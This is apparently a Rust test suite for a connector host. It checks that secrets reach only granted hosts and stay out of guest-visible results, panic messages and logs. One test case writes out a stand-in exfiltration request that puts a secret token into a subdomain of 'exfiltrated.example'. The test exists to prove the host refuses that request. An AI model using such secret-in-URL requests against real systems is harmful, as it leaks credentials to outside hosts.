//! Secrets stay outside: they go where they are granted, and come back from nowhere.

#![allow(clippy::panic, clippy::unwrap_used, reason = "a test's helper fails its test")]

use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use tape_connector_port::{Connectors, Outcome, Unmarked};
use tape_connector_tests::{PROBE, Setup, Upstream, effect};
use tape_host::Host;

const VALUE: &str = "s3cr3t-\"value\"";

async fn play(host: &Host, script: Value) -> tape_connector_port::Called<Outcome> {
    host.dispatch(PROBE, None, &effect("play", &script), &Unmarked)
        .await
        .expect("the call takes place")
}

fn send(url: &str, header: &str, body: &str) -> Value {
    json!({"send": {"method": "POST", "url": url, "headers": [["authorization", header]], "body": body}})
}

fn unknown(steps: Value) -> Value {
    json!({"steps": steps, "answer": {"unknown": {"reason": "{{last}}"}}})
}

fn reason(outcome: &Outcome) -> &str {
    match outcome {
        Outcome::Retry { reason, .. } => reason,
        Outcome::Unknown(doubt) => &doubt.reason,
        other => panic!("neither unknown nor a retry: {other:?}"),
    }
}

#[tokio::test]
async fn a_secret_goes_out_in_headers_and_bodies_to_where_it_is_granted() {
    let upstream = Upstream::start().await;
    let host = Setup::probe()
        .host(&upstream.origin())
        .secret("token", "s3cr3t", &[&upstream.origin()])
        .start()
        .await;
    play(
        &host,
        unknown(json!([send(
            &upstream.url("/ok"),
            "Bearer {{secret:token}}",
            "k={{secret:token}}"
        )])),
    )
    .await;
    let [request] = &upstream.received()[..] else {
        panic!("not one request")
    };
    assert!(
        request.contains("authorization: Bearer s3cr3t\r\n") && request.ends_with("\r\n\r\nk=s3cr3t"),
        "{request}"
    );
}

#[tokio::test]
async fn an_upstream_that_echoes_a_secret_does_not_hand_it_to_the_guest() {
    let upstream = Upstream::start().await;
    let host = Setup::probe()
        .host(&upstream.origin())
        .secret("token", VALUE, &[&upstream.origin()])
        .start()
        .await;
    let steps = json!([send(&upstream.url("/echo"), "{{secret:token}}", "{{secret:token}}")]);
    let answers = [
        json!({"unknown": {"reason": "{{last}}"}}),
        json!({"failed": {"code": "{{last}}", "message": "{{last}}", "retryable": false}}),
        json!({"confirmed": {"external_ref": "x", "response": "{\"echo\":\"{{last}}\"}"}}),
    ];
    for answer in answers {
        let called = play(&host, json!({"steps": steps, "answer": answer})).await;
        let text = format!("{called:?}");
        assert!(!text.contains("s3cr3t"), "{text}");
    }
    assert!(upstream.received()[0].contains(VALUE), "the upstream did get it");
}

#[tokio::test]
async fn what_is_not_granted_for_a_host_does_not_travel_there() {
    let (upstream, other) = (Upstream::start().await, Upstream::start().await);
    let setup = Setup::probe().host(&upstream.origin()).host(&other.origin());
    let host = setup.secret("token", VALUE, &[&upstream.origin()]).start().await;
    let cases = [
        (
            send(&other.url("/echo"), "{{secret:token}}", ""),
            "secret `token` is not granted for host",
        ),
        (
            send(&other.url("/echo"), "", "{{secret:token}}"),
            "secret `token` is not granted for host",
        ),
        (
            send(&upstream.url("/echo"), "{{secret:root-password}}", ""),
            "secret `root-password` is not granted;",
        ),
        (
            send("http://{{secret:token}}.exfiltrated.example/", "", ""),
            "a secret in a url is refused",
        ),
        (
            send(&upstream.url("/{{secret:token}}"), "", ""),
            "a secret in a url is refused",
        ),
        (
            send(&upstream.url("/echo?k={{secret:token}}"), "", ""),
            "a secret in a url is refused",
        ),
    ];
    for (step, refusal) in cases {
        let called = play(&host, unknown(json!([step]))).await;
        let told = reason(&called.outcome);
        assert!(told.starts_with("denied: ") && told.contains(refusal), "{told}");
    }
    assert!(upstream.received().is_empty() && other.received().is_empty());
}

#[tokio::test]
async fn last_words_hold_no_secret() {
    let upstream = Upstream::start().await;
    let host = Setup::probe()
        .host(&upstream.origin())
        .secret("token", "s3cr3t", &[&upstream.origin()])
        .start()
        .await;
    // However a guest came by a value, it does not get out.
    let called = play(
        &host,
        unknown(json!([{"print": {"text": "the token is s3cr3t", "times": 1}}, {"panic": "s3cr3t"}])),
    )
    .await;
    let told = reason(&called.outcome);
    assert!(
        !told.contains("s3cr3t") && told.contains("the token is {{secret:token}}"),
        "{told}"
    );
    assert!(!format!("{:?}", host.list()).contains("s3cr3t"));
}

#[tokio::test]
async fn the_log_holds_no_secret() {
    let upstream = Upstream::start().await;
    let host = Setup::probe()
        .host(&upstream.origin())
        .secret("token", "s3cr3t", &[&upstream.origin()])
        .start()
        .await;
    let log = Log::default();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_writer(log.clone())
        .finish();
    let _guard = tracing::subscriber::set_default(subscriber);
    let steps = json!([
        {"log": {"text": "the token is s3cr3t", "times": 1}},
        send(&upstream.url("/echo"), "{{secret:token}}", "")
    ]);
    play(&host, unknown(steps)).await;
    let log = log.text();
    assert!(log.contains("the token is {{secret:token}}"), "{log}");
    assert!(!log.contains("s3cr3t"), "{log}");
}

/// Everything that was logged.
#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl Log {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.0.lock().unwrap()).into_owned()
    }
}

impl std::io::Write for Log {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl<'a> tracing_subscriber::fmt::MakeWriter<'a> for Log {
    type Writer = Self;

    fn make_writer(&'a self) -> Self {
        self.clone()
    }
}
